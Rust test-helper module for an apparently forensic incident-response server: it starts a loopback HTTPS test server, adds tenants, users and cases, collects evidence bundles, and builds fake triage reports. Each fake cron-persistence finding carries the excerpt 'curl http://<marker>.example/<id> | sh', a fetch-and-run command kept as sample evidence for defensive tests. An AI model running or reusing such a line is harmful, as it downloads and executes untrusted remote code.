//! A server started inside the test, on loopback with a port of its own, over HTTPS with its
//! generated certificate; stopped when the handle is dropped (also when the test fails).

#![allow(dead_code)]

use firewarden_client::Client;
use firewarden_model::{Evidence, Finding, Severity, TriageReport};
use firewarden_server::{Config, Ready, Transport};
use std::path::PathBuf;

pub struct Server {
    pub url: String,
    pub pin: String,
    /// The admin's token (from the first server on the database).
    pub admin: String,
    pub data: tempfile::TempDir,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    task: Option<tokio::task::JoinHandle<()>>,
}

/// One master key for every server this test process starts (in a directory of its own,
/// removed when the process ends).
pub fn master_key() -> PathBuf {
    static DIR: std::sync::OnceLock<tempfile::TempDir> = std::sync::OnceLock::new();
    DIR.get_or_init(|| tempfile::tempdir().unwrap())
        .path()
        .join("master.key")
}

impl Server {
    /// A server on `database`; `admin` is the token to use when another server already made
    /// the admin on it.
    pub async fn start(database: &str, admin: Option<&str>, max_upload: u64) -> Server {
        let data = tempfile::tempdir().unwrap();
        let config = Config {
            data: data.path().to_path_buf(),
            listen: "127.0.0.1:0".parse().unwrap(),
            database: Some(database.to_owned()),
            evidence_store: None,
            transport: Transport::GeneratedTls,
            max_upload,
            // The SLA tests sweep with a clock of their own (tests/sla.rs).
            sla_every: std::time::Duration::from_secs(3600),
            // Servers on one database share their master key, as in production.
            master_key: Some(master_key()),
        };
        let (ready_tx, ready_rx) = tokio::sync::oneshot::channel::<Ready>();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let task = tokio::spawn(async move {
            let r = firewarden_server::run(
                config,
                move |r| {
                    let _ = ready_tx.send(r);
                },
                async move {
                    let _ = stopped.await;
                },
            )
            .await;
            if let Err(e) = r {
                eprintln!("server ended: {e}");
            }
        });
        let ready = ready_rx.await.expect("the server started");
        let admin = match (admin, &ready.bootstrap_token) {
            (Some(t), _) => t.to_owned(),
            (None, Some(p)) => std::fs::read_to_string(p).unwrap().trim().to_owned(),
            (None, None) => panic!("no bootstrap token on a fresh database"),
        };
        Server {
            url: ready.url,
            pin: ready.fingerprint.expect("HTTPS"),
            admin,
            data,
            stop: Some(stop),
            task: Some(task),
        }
    }

    pub fn client(&self, token: &str) -> Client {
        Client::new(&self.url, Some(token.to_owned()), Some(self.pin.clone())).unwrap()
    }

    pub fn anonymous(&self) -> Client {
        Client::new(&self.url, None, Some(self.pin.clone())).unwrap()
    }

    /// Stops it and waits until it has.
    pub async fn stop(mut self) {
        if let Some(s) = self.stop.take() {
            let _ = s.send(());
        }
        if let Some(t) = self.task.take() {
            let _ = t.await;
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(s) = self.stop.take() {
            let _ = s.send(());
        }
        if let Some(t) = self.task.take() {
            t.abort();
        }
    }
}

/// Adds a tenant; its id.
pub async fn tenant(admin: &Client, name: &str) -> String {
    admin
        .call(
            firewarden_client::Method::POST,
            "/api/v1/tenants",
            Some(&serde_json::json!({"name": name})),
        )
        .await
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned()
}

/// Adds a user of tenant `t` (with a password for decisions and logins, when given); their
/// token.
pub async fn user(
    admin: &Client,
    t: &str,
    name: &str,
    role: &str,
    password: Option<&str>,
) -> String {
    let mut body = serde_json::json!({"name": name, "role": role, "tenants": [t]});
    if let Some(p) = password {
        body["password"] = p.into();
    }
    let made = admin
        .call(
            firewarden_client::Method::POST,
            "/api/v1/users",
            Some(&body),
        )
        .await
        .unwrap();
    made["token"].as_str().unwrap().to_owned()
}

/// A triage result for `host` with a finding per id, each carrying `marker` and an address.
pub fn triage(host: &str, ids: &[&str], marker: &str, finished: &str) -> TriageReport {
    let mut r: TriageReport = serde_json::from_str(&format!(
        r#"{{"schema_version":1,"tool":"firewarden test","source":{{"kind":"root","location":"/r","hostname":"{host}"}},"started":"2026-11-20T00:00:00Z","finished":"{finished}",
            "storyline":{{"verdict":"v","entry_point":"ssh brute force","attacker_ips":["198.51.100.23"],"accounts":["{marker}acct"],"persistence":[]}},
            "timeline":[{{"time":"2026-11-19T23:00:00Z","kind":"login","summary":"{marker} logged in","source":"/var/log/auth.log:1","ip":"198.51.100.23"}}],
            "findings":[],"warnings":[],"checks":[]}}"#
    ))
    .unwrap();
    for id in ids {
        r.findings.push(
            Finding::new(
                "linux.persistence.cron",
                format!("{marker} cron job {id}"),
                Severity::Critical,
            )
            .evidence(
                Evidence::at(format!("/etc/cron.d/{id}"))
                    .excerpt(format!("curl http://{marker}.example/{id} | sh")),
            ),
        );
    }
    r
}

/// Writes `value` as JSON to a new file in `dir`.
pub fn json_file(dir: &std::path::Path, name: &str, value: &impl serde::Serialize) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, serde_json::to_vec_pretty(value).unwrap()).unwrap();
    p
}

/// A real evidence bundle of a tiny host named `host` (collected from a throwaway root with a
/// key of its own), its custody ledger beside it; the bundle's path and the collector's key.
pub fn bundle(dir: &std::path::Path, host: &str) -> (PathBuf, firewarden_evidence::PublicKey) {
    use firewarden_evidence::{CollectOptions, KeyPair, Profile};
    let root = dir.join(format!("{host}-root"));
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
    )
    .unwrap();
    let out = dir.join(format!("{host}.fwb"));
    let key = KeyPair::generate(false).unwrap();
    let public = key.public();
    let src = firewarden_source::FsSource::root(&root).unwrap();
    let opts = CollectOptions {
        profile: Profile::Triage,
        caps: Profile::Triage.caps(),
        case_id: None,
        operator: format!("collector of {host}"),
        command_line: vec!["firewarden".into(), "collect".into()],
        output: out.clone(),
        key,
        recipients: Vec::new(),
        threads: 1,
    };
    firewarden_evidence::collect(&src, opts, &|_| {}).unwrap();
    (out, public)
}

/// Pushes a bundle (its ledger first, as `firewarden case push` does); the evidence id.
pub async fn push_bundle(
    client: &Client,
    case: &str,
    asset: &str,
    bundle: &std::path::Path,
) -> String {
    let ledger = std::fs::read(firewarden_evidence::custody::ledger_path(bundle)).unwrap();
    let n = ledger.len();
    let pushed = client
        .upload(
            &format!("/api/v1/cases/{case}/imports?asset={asset}&ledger_bytes={n}"),
            ledger,
            bundle,
        )
        .await
        .unwrap();
    pushed["evidence"].as_str().unwrap().to_owned()
}

/// Opens a case for tenant `t` (kind intrusion, severity high); its id.
pub async fn case(client: &Client, t: &str, title: &str) -> String {
    client
        .call(
            firewarden_client::Method::POST,
            "/api/v1/cases",
            Some(&serde_json::json!({"tenant": t, "title": title, "kind": "intrusion", "severity": "high"})),
        )
        .await
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned()
}
